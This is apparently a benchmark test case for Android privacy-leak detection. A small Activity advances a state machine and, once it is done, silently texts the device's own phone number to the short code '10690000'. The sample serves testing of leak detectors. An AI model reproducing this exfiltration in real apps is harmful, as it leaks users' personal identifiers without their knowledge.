package cn.privlens.suite.third_state_reached;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Machine machine = new Machine();
        machine.next();
        machine.next();
        if (machine.done()) {
            SmsManager.getDefault().sendTextMessage("10690000", null, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number(), null, null);
        }
    }
}
